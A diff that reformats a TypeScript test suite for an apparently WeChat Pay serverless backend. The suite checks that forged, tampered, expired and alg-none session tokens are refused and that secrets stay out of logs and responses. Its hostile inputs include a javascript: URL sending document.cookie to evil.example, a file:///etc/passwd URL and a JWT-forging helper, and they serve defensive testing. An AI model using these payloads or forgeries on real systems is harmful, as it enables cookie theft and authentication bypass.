@@ -48,7 +48,9 @@ async function forged(header: Record<string, unknown>, claims: Record<string, un
   const [, payload] = genuine.split('.');
   const real = JSON.parse(new TextDecoder().decode(base64url.decode(payload as string))) as Record<string, unknown>;
   const { hkdfSync } = await import('node:crypto');
-  const signingKey = Buffer.from(hkdfSync('sha256', new TextEncoder().encode(key), new Uint8Array(0), 'wechatpay-serverless session signing', 32));
+  const signingKey = Buffer.from(
+    hkdfSync('sha256', new TextEncoder().encode(key), new Uint8Array(0), 'wechatpay-serverless session signing', 32),
+  );
   return new SignJWT({ ...real, ...claims } as never).setProtectedHeader(header as never).sign(signingKey);
 }
 
@@ -71,7 +73,10 @@ beforeAll(async () => {
   // (Their answers carry their own session tokens, as they must; every other answer is checked.)
   for (const token of [miniLogin.body.token, officialLogin.body.token]) secrets.add(token as string);
   secrets.add(mini.code).add(official.code);
-  const created = await order({ tradeType: 'JSAPI', items: [{ sku: 'hostile-coffee', quantity: 1 }] }, { authorization: bearer(miniLogin.body.token as string) });
+  const created = await order(
+    { tradeType: 'JSAPI', items: [{ sku: 'hostile-coffee', quantity: 1 }] },
+    { authorization: bearer(miniLogin.body.token as string) },
+  );
   expect(created.status).toBe(201);
   answers.push(created.raw);
   await stack.sim.faults({ platformErrors: { getticket: [40001] } });
@@ -92,7 +97,8 @@ beforeAll(async () => {
   await login('officialaccount', { code: usedOfficial.code });
   const ofOfficial = await simLogin(stack.emulator.url, { appId: OFFICIAL });
   const snapshot = await simLogin(stack.emulator.url, { appId: OFFICIAL, snapshotUser: true });
-  for (const code of [used.code, usedOfficial.code, expiring.code, expiringOfficial.code, ofOfficial.code, snapshot.code]) secrets.add(code);
+  for (const code of [used.code, usedOfficial.code, expiring.code, expiringOfficial.code, ofOfficial.code, snapshot.code])
+    secrets.add(code);
 
   const otherKey = 'another-deployment-session-key-0123456789';
   const miniToken = await sessionToken(MINI, 'oHostilePayer');
@@ -101,7 +107,8 @@ beforeAll(async () => {
   const tampered = `${header}.${base64url.encode(JSON.stringify({ ...claimsOf, aud: OFFICIAL }))}.${signature}`;
   secrets.add(miniToken);
   const item = { items: [{ sku: 'hostile-coffee', quantity: 1 }] };
-  const withToken = (token: string, body: Record<string, unknown> = {}) => order({ tradeType: 'JSAPI', ...item, ...body }, { authorization: bearer(token) });
+  const withToken = (token: string, body: Record<string, unknown> = {}) =>
+    order({ tradeType: 'JSAPI', ...item, ...body }, { authorization: bearer(token) });
   const withHeader = (authorization: string) => order({ tradeType: 'JSAPI', ...item }, { authorization });
   const page = (url: string, appId?: string) => jssdkConfigRequest(jssdkQuery(url, appId));
 
@@ -123,23 +130,48 @@ beforeAll(async () => {
     { name: 'a body over 16 KiB', run: () => login('miniprogram', JSON.stringify({ code: 'abc', pad: 'x'.repeat(17_000) })), status: 413 },
     { name: 'an app id of another kind', run: () => login('miniprogram', { code: 'abc', appId: OFFICIAL }), status: 400 },
     // Session tokens.
-    { name: 'a token signed with another key', run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { key: otherKey })), status: 401 },
-    { name: "a token of app A used for app B", run: () => withToken(miniToken, { appId: OFFICIAL }), status: 401 },
+    {
+      name: 'a token signed with another key',
+      run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { key: otherKey })),
+      status: 401,
+    },
+    { name: 'a token of app A used for app B', run: () => withToken(miniToken, { appId: OFFICIAL }), status: 401 },
     { name: 'a token with its app changed', run: () => withToken(tampered), status: 401 },
     { name: 'alg: none', run: () => withToken(unsigned({ ...claimsOf })), status: 401 },
     { name: 'alg: HS512', run: async () => withToken(await forged({ alg: 'HS512', typ: 'wechat-session+jwt' }, {})), status: 401 },
     { name: 'a truncated token', run: () => withToken(miniToken.slice(0, -10)), status: 401 },
     { name: 'a token without its signature', run: () => withToken(`${header}.${payload}`), status: 401 },
-    { name: 'an expired token', run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { now: () => Date.now() - 3 * 3600_000 })), status: 401 },
-    { name: 'a token living 30 days', run: async () => withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { exp: Math.floor(Date.now() / 1000) + 30 * 86_400 })), status: 401 },
-    { name: 'a token of an app not the merchant\'s', run: async () => withToken(await sessionToken('wx0000000000000bad', 'oHostilePayer')), status: 401 },
-    { name: 'a token with a plain openid', run: async () => withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { sub: 'oSomeoneElse' })), status: 401 },
+    {
+      name: 'an expired token',
+      run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { now: () => Date.now() - 3 * 3600_000 })),
+      status: 401,
+    },
+    {
+      name: 'a token living 30 days',
+      run: async () =>
+        withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { exp: Math.floor(Date.now() / 1000) + 30 * 86_400 })),
+      status: 401,
+    },
+    {
+      name: "a token of an app not the merchant's",
+      run: async () => withToken(await sessionToken('wx0000000000000bad', 'oHostilePayer')),
+      status: 401,
+    },
+    {
+      name: 'a token with a plain openid',
+      run: async () => withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { sub: 'oSomeoneElse' })),
+      status: 401,
+    },
     { name: 'the merchant API token as a session token', run: () => withToken(TEST_MERCHANT_TOKEN), status: 401 },
     { name: 'Basic credentials', run: () => withHeader(`Basic ${Buffer.from(`user:${miniToken}`).toString('base64')}`), status: 401 },
     { name: 'a 5,000-character bearer', run: () => withHeader(`Bearer ${'a'.repeat(5000)}`), status: 401 },
     { name: 'the merchant Authorization on POST /orders', run: () => withHeader(MERCHANT_AUTHORIZATION), status: 401 },
     // Page URLs.
-    { name: 'a javascript: URL', run: () => page(`javascript:fetch('https://evil.example/'+document.cookie)//${TEST_PAGE_ORIGIN}/`), status: 400 },
+    {
+      name: 'a javascript: URL',
+      run: () => page(`javascript:fetch('https://evil.example/'+document.cookie)//${TEST_PAGE_ORIGIN}/`),
+      status: 400,
+    },
     { name: 'a data: URL', run: () => page('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), status: 400 },
     { name: 'a file: URL', run: () => page('file:///etc/passwd'), status: 400 },
     { name: 'a foreign origin', run: () => page('https://evil.example/pay'), status: 403 },
@@ -179,8 +211,14 @@ describe('hostile codes, session tokens and page URLs', () => {
     expect(lines.length).toBeGreaterThan(10);
     expect(secrets.size).toBeGreaterThanOrEqual(15);
     for (const secret of secrets) {
-      expect(lines.filter((line) => line.includes(secret)), 'a log line').toEqual([]);
-      expect(answers.filter((answer) => answer.includes(secret)), 'an answer').toEqual([]);
+      expect(
+        lines.filter((line) => line.includes(secret)),
+        'a log line',
+      ).toEqual([]);
+      expect(
+        answers.filter((answer) => answer.includes(secret)),
+        'an answer',
+      ).toEqual([]);
     }
     // Nor anything named like one: the mini-program's session_key is never even seen.
     expect(lines.filter((line) => /session_key|"secret"|access_token=|"ticket"/i.test(line))).toEqual([]);
@@ -189,16 +227,20 @@ describe('hostile codes, session tokens and page URLs', () => {
   it('logs the logins and the token refresh as structured lines, without the payer', () => {
     const entries = lines.filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, unknown>);
     const logins = entries.filter((entry) => entry.message === 'payer logged in');
-    expect(logins.map((entry) => [entry.appId, entry.kind]).sort()).toEqual([
-      [MINI, 'miniprogram'],
-      [MINI, 'miniprogram'],
-      [OFFICIAL, 'officialaccount'],
-      [OFFICIAL, 'officialaccount'],
-    ].sort());
+    expect(logins.map((entry) => [entry.appId, entry.kind]).sort()).toEqual(
+      [
+        [MINI, 'miniprogram'],
+        [MINI, 'miniprogram'],
+        [OFFICIAL, 'officialaccount'],
+        [OFFICIAL, 'officialaccount'],
+      ].sort(),
+    );
     for (const entry of logins) expect(Object.keys(entry)).not.toContain('openid');
     // Refusals are logged with their reason, for the merchant's monitoring.
     const refusedSessions = entries.filter((entry) => entry.message === 'payer session refused').map((entry) => entry.reason);
-    expect(new Set(refusedSessions)).toEqual(new Set(['BAD_SIGNATURE', 'WRONG_APP', 'ALG_NOT_ALLOWED', 'MALFORMED', 'EXPIRED', 'INVALID_CLAIMS', 'NOT_BEARER']));
+    expect(new Set(refusedSessions)).toEqual(
+      new Set(['BAD_SIGNATURE', 'WRONG_APP', 'ALG_NOT_ALLOWED', 'MALFORMED', 'EXPIRED', 'INVALID_CLAIMS', 'NOT_BEARER']),
+    );
     const refusedLogins = entries.filter((entry) => entry.message === 'payer login refused').map((entry) => entry.errcode);
     expect(new Set(refusedLogins)).toEqual(new Set([40163, 40029, 42003]));
     expect(entries.some((entry) => entry.message === 'wechat_token_refreshed' && entry.kind === 'jsapi_ticket')).toBe(true);
